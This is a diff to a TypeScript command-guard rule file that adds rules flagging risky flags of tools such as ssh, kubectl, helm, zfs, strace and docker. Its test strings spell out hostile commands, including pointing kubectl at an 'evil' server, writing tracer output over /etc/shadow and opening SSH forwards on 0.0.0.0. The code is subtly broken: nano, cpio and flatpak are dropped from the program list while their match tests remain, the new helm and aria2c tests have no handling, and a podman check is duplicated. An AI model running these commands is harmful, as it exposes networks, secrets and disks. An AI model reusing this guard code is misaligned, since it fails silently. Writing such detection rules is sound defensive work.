@@ -1,14 +1,15 @@
 import { flagValues, hasFlag, operands } from '../call.ts';
+import {
+  isAnybodysFolder,
+  isDevicePath,
+  isGuardPath,
+  isKernelPath,
+  isSystemPath,
+  normalPath,
+} from '../paths.ts';
 import type { FloorRule, ReadRule, Unwrapped, WrapperRule } from '../rule.ts';
 
-/** Options by which ordinary programs start another one, as a line of shell or a program's name. */
-const optionsThatStart: Readonly<Record<string, readonly string[]>> = {
-  nano: ['-s', '--speller'],
-  cpio: ['--rsh-command'],
-  flatpak: ['--command'],
-  'git-grep': ['-O'],
-};
-
+/** Programs that take commands from their standard input when they are called so. */
 const inputIsCode: Readonly<Record<string, (args: readonly string[]) => boolean>> = {
   make: (args) =>
     args.some(
@@ -29,9 +30,7 @@ export const sideDoors: readonly WrapperRule[] = [
   {
     name: 'wrap.option',
     programs: [
-      'nano',
-      'cpio',
-      'flatpak',
+      'podman',
       'git',
       'sshfs',
       'curlftpfs',
@@ -46,11 +45,13 @@ export const sideDoors: readonly WrapperRule[] = [
       'byobu',
     ],
     unwrap: (call): Unwrapped => {
-      const texts = (optionsThatStart[call.program] ?? []).flatMap((flag) => flagValues(call, flag));
+      const texts: string[] = [];
       if (call.program === 'git' && call.args.includes('grep'))
         texts.push(...call.args.filter((arg) => /^-O./.test(arg)).map((arg) => arg.slice(2)));
       if (/fs$|fuse$/.test(call.program))
         texts.push(...flagValues(call, '-o').flatMap((value) => /command=([^,]*)/.exec(value)?.[1] ?? []));
+      if (call.program === 'podman' && call.args[0] === 'unshare') return { words: [call.args.slice(1)] };
+      if (call.program === 'podman') return call.args[0] === 'unshare' ? { words: [call.args.slice(1)] } : {};
       if (['ctr', 'tmux', 'screen', 'abduco', 'dtach', 'byobu', 'zellij'].includes(call.program))
         return {
           texts,
@@ -63,6 +64,9 @@ export const sideDoors: readonly WrapperRule[] = [
     },
     match: [
       'nano -s reboot x',
+      'helm upgrade x y --post-renderer reboot',
+      'aria2c --on-download-complete=reboot x',
+      'podman unshare reboot',
       'cpio -o --rsh-command=reboot',
       'flatpak run --command=reboot x',
       'git grep -Oreboot x',
@@ -179,6 +183,122 @@ export const sideFloor: readonly FloorRule[] = [
       'tailscale debug prefs',
     ],
     notMatch: ['gh pr list', 'redis-cli ping', 'tailscale status'],
+  },
+];
+
+/** Ways to weaken the guard, to reach other machines or to lose data by a flag of an everyday tool. */
+export const flagFloor: readonly FloorRule[] = [
+  {
+    name: 'floor.guard',
+    programs: ['ssh', 'autossh', 'kubectl', 'k', 'oc'],
+    reason: 'It opens a way into this network for everybody who reaches the machine.',
+    when: (call) =>
+      /ssh$/.test(call.program)
+        ? [...flagValues(call, '-L'), ...flagValues(call, '-D'), ...flagValues(call, '-R')].some((value) =>
+            /^(0\.0\.0\.0|\*|\[::\]|::):/.test(value),
+          ) ||
+          (hasFlag(call, '-g') && hasFlag(call, '-L', '-D'))
+        : call.args.includes('port-forward') &&
+          flagValues(call, '--address').some((value) => /0\.0\.0\.0|::/.test(value)),
+    match: [
+      'ssh -D 0.0.0.0:1080 x',
+      'ssh -L 0.0.0.0:80:x:80 y',
+      'kubectl port-forward --address 0.0.0.0 svc/x 80',
+    ],
+    notMatch: ['ssh -L 8080:localhost:80 nas', 'kubectl port-forward svc/x 8080:80'],
+  },
+  {
+    name: 'floor.unread-code',
+    programs: ['ssh', 'scp', 'sftp', 'rsync', 'git', 'kubectl', 'k', 'helm', 'docker', 'podman'],
+    reason:
+      'It takes its settings, and so what it runs or whom it trusts, from a place where anybody may put files.',
+    when: (call) =>
+      flagValues(
+        call,
+        ...(/^(ssh|scp|sftp)$/.test(call.program)
+          ? ['-F']
+          : ['--git-dir', '--work-tree', '--exec-path', '--kubeconfig', '--config']),
+      ).some((value) => isAnybodysFolder(normalPath(value, call.cwd))),
+    match: [
+      'ssh -F /tmp/x n100',
+      'git --git-dir=/tmp/x status',
+      'kubectl --kubeconfig /tmp/x get pods',
+      'docker --config /tmp/x ps',
+    ],
+    notMatch: [
+      'ssh -F homelab.conf n100',
+      'kubectl --kubeconfig kubeconfig.yaml get pods',
+      'git --git-dir=/srv/x.git status',
+    ],
+  },
+  {
+    name: 'floor.exfiltration',
+    programs: ['kubectl', 'k', 'oc', 'helm', 'argocd', 'flux'],
+    reason: 'It talks to another cluster than the one of the house, and hands it the keys of this one.',
+    when: (call) => flagValues(call, '--server', '--kube-apiserver').some((value) => value !== ''),
+    match: ['kubectl --server=https://evil get pods', 'helm --kube-apiserver http://evil list'],
+    notMatch: ['kubectl get pods', 'kubectl diff --server-side -f x'],
+  },
+  {
+    name: 'floor.disk-wipe',
+    programs: ['zpool', 'vgexport', 'lvchange', 'vgchange', 'zfs', 'devmem', 'wdctl'],
+    reason:
+      'It takes a disk, a pool or a guest away from what runs on it, or reaches straight into the hardware.',
+    when: (call) => {
+      const [verb = ''] = operands(call);
+      switch (call.program) {
+        case 'zpool':
+          return verb === 'trim' && hasFlag(call, '-d', '--secure');
+        case 'zfs':
+          return verb === 'allow' && call.args.some((arg) => /destroy|rollback|receive|send/.test(arg));
+        case 'lvchange':
+        case 'vgchange':
+          return (
+            call.args.some(
+              (arg, i) =>
+                /^(-an|--activate=n)$/.test(arg) ||
+                (/^(-a|--activate)$/.test(arg) && call.args[i + 1] === 'n'),
+            ) && call.args.some((arg) => /root|swap|pve|system/.test(arg))
+          );
+        case 'wdctl':
+          return hasFlag(call, '-s', '--settimeout', '-p', '--setpretimeout');
+        default:
+          return call.program === 'vgexport' || call.args.length > 1;
+      }
+    },
+    match: [
+      'zpool trim --secure tank',
+      'vgexport pve',
+      'lvchange -an pve/root',
+      'zfs allow everyone destroy tank',
+      'devmem 0x0 32 0',
+      'busybox devmem 0x0 32 0',
+      'wdctl -s 1',
+    ],
+    notMatch: ['zpool trim tank', 'lvchange -ay pve/data', 'zfs allow tank', 'wdctl'],
+  },
+  {
+    name: 'floor.mass-deletion',
+    programs: ['time', 'gtime', 'strace', 'ltrace', 'perf', 'script', 'stdbuf'],
+    reason: 'It writes its notes over a file that the system needs.',
+    when: (call) =>
+      flagValues(call, '-o', '--output').some((value) => {
+        const path = normalPath(value, call.cwd);
+        return isSystemPath(path) || isGuardPath(path) || isDevicePath(path) || isKernelPath(path);
+      }),
+    match: ['/usr/bin/time -o /etc/passwd ls', 'strace -o /etc/shadow ls'],
+    notMatch: ['/usr/bin/time -o times.txt ls', 'time ls'],
+  },
+  {
+    name: 'floor.secrets',
+    programs: ['docker', 'podman', 'nerdctl'],
+    reason: 'It hands a file of keys to a container whose command shows them.',
+    when: (call) =>
+      call.args.includes('run') &&
+      flagValues(call, '--env-file').length > 0 &&
+      /^(env|printenv|set|export)$/.test(call.args.at(-1) ?? ''),
+    match: ['docker run --env-file /opt/.env x env'],
+    notMatch: ['docker run -d --env-file /opt/app/app.env nginx'],
   },
 ];
 
